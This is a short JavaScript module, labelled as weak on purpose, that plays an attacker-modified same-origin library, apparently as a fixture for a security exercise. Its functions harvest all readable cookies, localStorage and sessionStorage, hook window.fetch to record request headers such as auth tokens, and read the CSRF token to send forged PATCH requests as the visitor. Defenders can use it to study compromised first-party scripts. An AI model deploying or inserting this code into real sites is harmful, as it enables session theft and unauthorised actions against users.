/* WEAK on purpose: a library that an attacker has changed. It comes from this site's own origin, so the content
   security policy allows it, and it can do whatever the page can. */

/** Return all that scripts can read: {cookies, localStorage, sessionStorage}, each [[name, value], ...]. */
export function loot() {
  const cookies = document.cookie.split("; ").filter(Boolean).map((pair) => {
    const at = pair.indexOf("=");
    return [pair.slice(0, at), pair.slice(at + 1)];
  });
  return { cookies, localStorage: Object.entries(localStorage), sessionStorage: Object.entries(sessionStorage) };
}

/** Record the headers of the page's requests. Return a function that stops recording and returns them. */
export function listen() {
  const { fetch } = window;
  const headers = [];
  window.fetch = (resource, options = {}) => {
    headers.push(...Object.entries(options.headers ?? {}));
    return fetch(resource, options);
  };
  return () => {
    window.fetch = fetch;
    return headers;
  };
}

/** Send a change as the visitor: the browser adds the cookies, and scripts can read the CSRF token. */
export async function act(path, changes, headers) {
  const name = document.documentElement.dataset.csrf;
  const token = document.cookie.match(new RegExp(`(?:^|; )${name}=([^;]*)`))?.[1] ?? "";
  const response = await fetch(path, {
    method: "PATCH",
    headers: { "Content-Type": "application/json", "X-CSRFToken": token, ...headers },
    body: JSON.stringify(changes),
  });
  return { method: "PATCH", path, status: response.status, exchange: response.headers.get("Exchange-Id") };
}
